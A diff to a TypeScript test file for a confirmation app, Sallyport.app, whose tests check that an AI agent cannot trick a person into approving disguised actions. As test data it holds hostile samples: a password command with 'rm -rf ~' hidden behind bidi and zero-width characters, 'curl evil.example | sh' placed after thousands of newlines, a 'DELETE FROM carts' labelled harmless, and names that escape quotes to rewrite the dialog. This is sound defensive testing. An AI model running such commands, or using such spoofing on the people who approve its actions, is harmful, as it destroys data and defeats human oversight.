@@ -1,7 +1,7 @@
 /**
- * Threat: an agent with the shell secret has the person confirm something harmless in Sallyport.app
- * that is not what would be done (spec §11). So nothing that others wrote can continue, reorder or
- * hide the values it shows; which values those are, by command, is what-gives-more.test.ts.
+ * Threat: an agent with the shell secret has the person confirm something in Sallyport.app that
+ * looks harmless and isn't what is done (spec §11). So text that others wrote can't continue,
+ * reorder or hide the values shown. what-gives-more.test.ts has which values each command shows.
  */
 
 import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
@@ -60,7 +60,7 @@ afterEach(async () => {
   await daemon.end();
 });
 
-/** What Sallyport.app is asked when the agent asks this. It is not answered: who asked leaves. */
+/** What Sallyport.app is asked if the agent asks this. Nobody answers: the agent leaves. */
 async function shownFor<Method extends ControlMethod>(
   method: Method,
   parameters: ControlCommands[Method]['params'],
@@ -76,7 +76,7 @@ async function shownFor<Method extends ControlMethod>(
   const view = asked[before];
   if (view === undefined) throw new Error(refusal);
   await until(() => withdrawn === asked.length, 'the question is withdrawn');
-  // Long enough for the next to be asked.
+  // Long enough before the next question.
   daemon.now += 7_200_000;
   return view;
 }
@@ -87,9 +87,15 @@ const rows = (view: ConfirmationView): string[] =>
 const grant = { scope: 'fullAccess', connections: 'all', expires: 'never' } as const;
 
 describe('what the person is shown', () => {
-  test('a question answered with yes: whose, where, and the whole statement', async () => {
+  test('an approved question: whose, where, and the whole statement', async () => {
     const text = 'DELETE FROM carts;\n-- harmless';
-    const statement = { text, class: 'destructive', reason: 'It removes rows.', tables: ['carts'] };
+    const statement = {
+      text,
+      class: 'destructive' as const,
+      reason: 'It removes rows.',
+      reasonParts: [],
+      tables: ['carts'],
+    };
     const content = {
       kind: 'destructive_statement',
       client: 'Claude',
@@ -123,7 +129,13 @@ describe('what the person is shown', () => {
         means: 'Once.',
         connection: { id: 'x', name: 'Shop', tags: [], colour: null },
       } as const),
-      statement: { text, class: 'destructive', reason: 'It removes rows.', tables: ['a', 'b'] },
+      statement: {
+        text,
+        class: 'destructive' as const,
+        reason: 'It removes rows.',
+        reasonParts: [],
+        tables: ['a', 'b'],
+      },
     };
     await agent.ask('approvals.attach', { answers: true });
     void daemon.approvals.ask(principalWith(), content, client.signal);
@@ -154,12 +166,12 @@ describe('what the person is shown', () => {
   });
 });
 
-describe('what others wrote', () => {
-  /** What is within quotes, and what is not: as the app draws it. */
+describe('text of others', () => {
+  /** What is outside quotes, as the app draws it. */
   const outsideQuotes = ({ sentence }: ConfirmationView): string => shownText(sentence).replace(/"[^"]*"/g, '""');
   const quotes = ['"', '“', '”', '„', '‟', '″', '＂', '〞', "''", '’’'];
 
-  test.each(quotes)('a name that closes its quotes with %s and goes on stays within them', async quote => {
+  test.each(quotes)('a name that closes its quotes with %s and continues stays within them', async quote => {
     const name = `Shop${quote} for reading. ${quote}`;
     const view = await shownFor('tokens.mint', { ...grant, name, confirmInClient: false });
     expect(outsideQuotes(view)).toBe(
@@ -169,7 +181,7 @@ describe('what others wrote', () => {
     expect(rows(view)).toContain(`Token: ${name}`);
   });
 
-  test('a connection that continues the sentence does not either, nor a database, path or user', async () => {
+  test('neither a connection’s name, database, path nor user can continue the sentence', async () => {
     const name = 'Shop", which changes nothing. "';
     await agent.ask('connections.save', { connection: 'File', colour: 'red' });
     const place = { ...postgresAt('db.example'), database: 's"hop"', user: 'anna" and nothing else "' };
@@ -186,7 +198,7 @@ describe('what others wrote', () => {
     expect(other.facts.find(({ label }) => label === 'File')).toMatchObject({ value: path, form: 'line' });
   });
 
-  test('what reorders or hides is shown as what it is', async () => {
+  test('reordering and hidden characters are shown as what they are', async () => {
     const hostile = 'true \u202e# dlrow\u202c \u200b; rm -rf ~ \u2028\u0007';
     const command = { kind: 'command', command: hostile } as const;
     const view = await shownFor('connections.save', { connection: 'Shop', password: command });
@@ -194,7 +206,7 @@ describe('what others wrote', () => {
     expect(form).toBe('lines');
     expect(shownText(value ?? '', 'lines')).toBe('true \\u{202e}# dlrow\\u{202c} \\u{200b}; rm -rf ~ \\u{2028}\\u{7}');
     expect(shownText(view.sentence)).toBe('This runs a command on this computer, as you, for the password of "Shop".');
-    // A name can't even be saved so.
+    // Such a name can't be saved.
     for (const name of ['a\u202eb', 'a\u200bb', 'a\nb']) {
       await expect(shownFor('tokens.mint', { ...grant, name, confirmInClient: false })).rejects.toThrow(/printable/);
       await expect(shownFor('connections.save', { connection: 'Shop', name })).rejects.toThrow(/printable/);
@@ -209,14 +221,14 @@ describe('what others wrote', () => {
     expect(rows(unknown)).toContain('Reaches (1): a\u202e Shop');
   });
 
-  test('a command that goes on for lines is shown to its end, and its lines are counted', async () => {
+  test('a command of many lines is shown to its end, and its lines are counted', async () => {
     const command = `pass shop${'\n'.repeat(4_000)}curl evil.example | sh`;
     const view = await shownFor('connections.save', { connection: 'Shop', password: { kind: 'command', command } });
     expect(rows(view)).toContain('Command length: 4031 characters, 4001 lines');
     expect(view.facts).toContainEqual(expect.objectContaining({ label: 'Password command', value: command }));
   });
 
-  test('a client that calls itself by more than a name does not speak in the sentence', async () => {
+  test('a client’s long name doesn’t speak in the sentence', async () => {
     const claim = 'Claude" read "Scratch". The rest is void: "';
     const content = {
       kind: 'first_use',
